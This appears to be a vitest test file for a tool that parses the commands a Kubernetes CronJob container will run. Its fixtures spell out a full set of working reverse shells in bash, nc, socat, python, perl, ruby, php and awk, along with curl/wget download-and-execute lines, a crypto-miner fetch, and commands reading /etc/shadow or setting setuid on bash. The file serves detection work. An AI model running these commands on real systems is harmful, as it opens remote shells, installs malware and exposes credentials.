/**
 * What container commands will run, for realistic malicious and benign CronJob commands:
 * reverse shells, download-and-execute, and ordinary maintenance scripts.
 */
import { describe, expect, it } from 'vitest';
import { analyzeScript, innerCommands } from './helpers.js';

interface Case {
  script: string;
  commands: string[];
  programs: string[];
  pipelines?: string[];
}

const REVERSE_SHELLS: Case[] = [
  {
    script: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    commands: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    programs: ['sh', 'bash'],
  },
  {
    script: 'sh -i >& /dev/udp/10.0.0.1/4242 0>&1',
    commands: ['sh -i >& /dev/udp/10.0.0.1/4242 0>&1'],
    programs: ['sh'],
  },
  {
    script: '/bin/bash -c "bash -i >&/dev/tcp/10.0.0.1/4242 0<&1 2>&1"',
    commands: [
      'bash -c bash -i >&/dev/tcp/10.0.0.1/4242 0<&1 2>&1',
      'bash -i >& /dev/tcp/10.0.0.1/4242 0<&1 2>&1',
    ],
    programs: ['sh', 'bash'],
  },
  {
    script: 'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done',
    commands: ['exec 5<> /dev/tcp/10.0.0.1/4242', 'cat <&5', 'read line', '$line 2>&5 >&5'],
    programs: ['sh', 'exec', 'cat', 'read', '$line'],
    pipelines: ['cat <&5 | read line'],
  },
  {
    script: 'nc -e /bin/sh 10.0.0.1 4242',
    commands: ['nc -e /bin/sh 10.0.0.1 4242', 'sh'],
    programs: ['sh', 'nc'],
  },
  {
    script: "ncat 10.0.0.1 4242 --exec '/bin/bash -i'",
    commands: ['ncat 10.0.0.1 4242 --exec /bin/bash -i', 'bash -i'],
    programs: ['sh', 'ncat', 'bash'],
  },
  {
    script: 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
    commands: [
      'rm /tmp/f',
      'mkfifo /tmp/f',
      'cat /tmp/f',
      'sh -i 2>&1',
      'nc 10.0.0.1 4444 > /tmp/f',
    ],
    programs: ['sh', 'rm', 'mkfifo', 'cat', 'nc'],
    pipelines: ['cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'],
  },
  {
    script: "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
    commands: ['socat exec:bash -li,pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242', 'bash -li'],
    programs: ['sh', 'socat', 'bash'],
  },
  {
    script:
      "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);" +
      's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    commands: [
      'python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);' +
        's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
    ],
    programs: ['sh', 'python3'],
  },
  {
    script:
      'perl -e \'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
    commands: [
      'perl -e use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
    ],
    programs: ['sh', 'perl'],
  },
  {
    script:
      'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    commands: [
      'ruby -rsocket -ef=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    ],
    programs: ['sh', 'ruby'],
  },
  {
    script: 'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    commands: ['php -r $sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'],
    programs: ['sh', 'php'],
  },
  {
    script:
      'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; ' +
      's |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } ' +
      'while(c != "exit") close(s); }}\' /dev/null',
    commands: [
      'awk BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; ' +
        's |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } ' +
        'while(c != "exit") close(s); }} /dev/null',
    ],
    programs: ['sh', 'awk'],
  },
];

const DOWNLOAD_AND_EXECUTE: Case[] = [
  {
    script: 'curl -s http://203.0.113.7/m | sh',
    commands: ['curl -s http://203.0.113.7/m', 'sh'],
    programs: ['sh', 'curl'],
    pipelines: ['curl -s http://203.0.113.7/m | sh'],
  },
  {
    script: 'wget -qO- http://203.0.113.7/x.sh | bash',
    commands: ['wget -qO- http://203.0.113.7/x.sh', 'bash'],
    programs: ['sh', 'wget', 'bash'],
    pipelines: ['wget -qO- http://203.0.113.7/x.sh | bash'],
  },
  {
    script: 'curl -fsSL https://x.example/i.sh | sudo bash -s -- --token abc',
    commands: [
      'curl -fsSL https://x.example/i.sh',
      'sudo bash -s -- --token abc',
      'bash -s -- --token abc',
    ],
    programs: ['sh', 'curl', 'sudo', 'bash'],
    pipelines: ['curl -fsSL https://x.example/i.sh | sudo bash -s -- --token abc'],
  },
  {
    script: 'curl -o /tmp/x http://203.0.113.7/x; chmod +x /tmp/x; /tmp/x',
    commands: ['curl -o /tmp/x http://203.0.113.7/x', 'chmod +x /tmp/x', 'x'],
    programs: ['sh', 'curl', 'chmod', 'x'],
  },
  {
    script:
      'cd /tmp && wget http://203.0.113.7/xmrig && chmod 777 xmrig && nohup ./xmrig -o pool:3333 &',
    commands: [
      'cd /tmp',
      'wget http://203.0.113.7/xmrig',
      'chmod 777 xmrig',
      'nohup ./xmrig -o pool:3333',
      'xmrig -o pool:3333',
    ],
    programs: ['sh', 'cd', 'wget', 'chmod', 'nohup', 'xmrig'],
  },
  {
    script: 'bash <(curl -s http://203.0.113.7/x)',
    commands: ['curl -s http://203.0.113.7/x', 'bash <(curl -s http://203.0.113.7/x)'],
    programs: ['sh', 'curl', 'bash'],
  },
];

const BENIGN: Case[] = [
  {
    script: 'pg_dump -h db -U app app | gzip > /backup/db.gz',
    commands: ['pg_dump -h db -U app app', 'gzip > /backup/db.gz'],
    programs: ['sh', 'pg_dump', 'gzip'],
    pipelines: ['pg_dump -h db -U app app | gzip > /backup/db.gz'],
  },
  {
    script: 'curl -sf http://svc.ns.svc.cluster.local/healthz',
    commands: ['curl -sf http://svc.ns.svc.cluster.local/healthz'],
    programs: ['sh', 'curl'],
  },
  {
    script: 'python manage.py migrate',
    commands: ['python manage.py migrate'],
    programs: ['sh', 'python'],
  },
  {
    script: 'set -euo pipefail\nfind /data -mtime +7 -name "*.log" -delete\necho "done at $(date)"',
    commands: [
      'set -euo pipefail',
      'find /data -mtime +7 -name *.log -delete',
      'date',
      'echo done at $(date)',
    ],
    programs: ['sh', 'set', 'find', 'date', 'echo'],
  },
];

describe('analyzeContainerCommand', () => {
  describe.each([
    ['reverse shell', REVERSE_SHELLS],
    ['download and execute', DOWNLOAD_AND_EXECUTE],
    ['benign script', BENIGN],
  ])('%s', (_kind, cases) => {
    it.each(cases)('$script', ({ script, commands, programs, pipelines }) => {
      const result = analyzeScript(script);
      expect(result.commandLine).toBe(`/bin/sh -c ${script}`);
      expect(result.commands).toEqual([`sh -c ${script}`, ...commands]);
      expect(result.programs).toEqual(programs);
      expect(result.pipelines).toEqual(pipelines ?? []);
      expect(result.texts[0]).toBe(result.commandLine);
      expect(result.texts).toContain(script);
      for (const command of result.commands) expect(result.texts).toContain(command);
    });
  });

  it('keeps interpreter one-liners as texts', () => {
    const code = 'import pty;pty.spawn("/bin/bash")';
    expect(analyzeScript(`python3 -c '${code}'`).texts).toContain(code);
    expect(analyzeScript(`node -e 'require("child_process").exec("id")'`).texts).toContain(
      'require("child_process").exec("id")',
    );
    expect(analyzeScript(`perl -MIO -le 'print 1'`).texts).toContain('print 1');
  });

  it('analyzes the wrapped command of sudo/env/nohup/busybox chains', () => {
    const result = analyzeScript("sudo -u root env FOO=1 nohup busybox sh -c 'id; whoami' &");
    expect(result.programs).toEqual(['sh', 'sudo', 'env', 'nohup', 'busybox', 'id', 'whoami']);
    expect(result.commands).toContain('sh -c id; whoami');
  });

  it('analyzes commands run by su -c, script -c, nsenter and chroot', () => {
    expect(innerCommands("su -c 'chmod u+s /bin/bash' root")).toContain('chmod u+s /bin/bash');
    expect(innerCommands('script -qc /bin/bash /dev/null')).toContain('bash');
    expect(innerCommands("nsenter -t 1 -m -u -i -n -p -- bash -c 'cat /etc/shadow'")).toContain(
      'cat /etc/shadow',
    );
    expect(innerCommands('chroot /host sh -c "crontab -l"')).toContain('crontab -l');
  });
});
